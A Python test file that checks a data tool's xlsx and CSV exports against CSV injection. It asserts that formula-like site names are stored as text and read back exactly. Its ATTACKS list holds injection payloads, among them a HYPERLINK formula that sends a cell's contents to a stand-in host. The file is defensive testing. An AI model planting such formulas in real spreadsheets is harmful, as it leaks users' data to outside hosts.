"""Text that a spreadsheet would run as a formula is written as text: in dataset and result exports, xlsx and CSV.

An analyst who names a site ``=HYPERLINK(...)`` must not plant a live
formula in another user's export (CSV injection).  Independent check: the
xlsx files are opened with openpyxl and their cell types read; the CSV text
is read as plain lines.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from importsub.io import read_path, write_path
from importsub.io.cells import RISKY, neutral, restore
from importsub.model.dataset import Dataset
from importsub.reports.tables import to_csv, write_xlsx

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"Руденск")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''+x"]


def _with_names(tiny: Dataset) -> Dataset:
    names = (ATTACKS * 3)[: tiny.sites.height]
    return tiny.replace(sites=tiny.sites.with_columns(pl.Series("name", names)))


def test_dataset_xlsx_stores_formula_like_text_as_text(tiny: Dataset, tmp_path: Path) -> None:
    ds = _with_names(tiny)
    path = tmp_path / "d.xlsx"
    write_path(ds, path)
    ws = load_workbook(path)["sites"]
    header = [c.value for c in ws[1]]
    col = header.index("name")
    cells = [row[col] for row in ws.iter_rows(min_row=4)]
    assert {c.value for c in cells} == set(ds.sites["name"].to_list())
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    back = read_path(path, validate=False)
    assert back.canonical("sites")["name"].to_list() == ds.canonical("sites")["name"].to_list()


def test_dataset_csv_neutralises_and_reads_back_exactly(tiny: Dataset, tmp_path: Path) -> None:
    ds = _with_names(tiny)
    folder = tmp_path / "csv"
    write_path(ds, folder, "csv")
    rows = list(csv.DictReader(io.StringIO((folder / "sites.csv").read_text(encoding="utf-8"))))
    for r in rows:
        assert r["name"][0] not in RISKY, r["name"]  # a spreadsheet opening the file sees text
    back = read_path(folder, validate=False)
    assert (
        back.canonical("sites")["name"].to_list() == ds.canonical("sites")["name"].to_list()
    )  # the import gives back what was written


def test_result_exports_neutralise_text_but_not_numbers(tmp_path: Path) -> None:
    df = pl.DataFrame({"site": ATTACKS, "loss [RUB]": [-1.5] * len(ATTACKS)})
    lines = to_csv(df).splitlines()[1:]
    assert all(line[0] not in RISKY for line in lines), lines
    assert all(line.endswith(",-1.5") for line in lines)  # negative numbers stay numbers
    path = tmp_path / "r.xlsx"
    write_xlsx({"t": df}, path)
    ws = load_workbook(path)["t"]
    assert [c.data_type for c in ws["A"][1:]] == ["s"] * len(ATTACKS)
    assert [c.value for c in ws["A"][1:]] == ATTACKS
    assert [c.value for c in ws["B"][1:]] == [-1.5] * len(ATTACKS)


@given(st.text(alphabet="'=+-@\t\rab ", max_size=8))
def test_neutral_is_undone_by_restore(value: str) -> None:
    assert restore(neutral(value)) == value
    assert not neutral(value) or neutral(value)[0] not in RISKY
